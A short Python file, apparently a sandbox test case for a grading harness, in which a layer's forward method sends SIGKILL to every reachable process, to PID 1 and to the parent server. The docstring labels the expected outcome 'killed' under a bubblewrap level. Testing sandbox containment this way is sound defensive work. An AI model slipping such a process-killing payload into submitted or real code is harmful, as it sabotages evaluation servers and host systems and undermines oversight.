"""Send SIGKILL to every process in reach, the server among them.

earns: CenteredLayer
outcome: killed
levels: bubblewrap
"""

import os
import signal


class MyLinear(MyLinear):
    def forward(self, x):
        os.kill(-1, signal.SIGKILL)
        os.kill(1, signal.SIGKILL)
        os.kill(os.getppid(), signal.SIGKILL)
        os._exit(0)
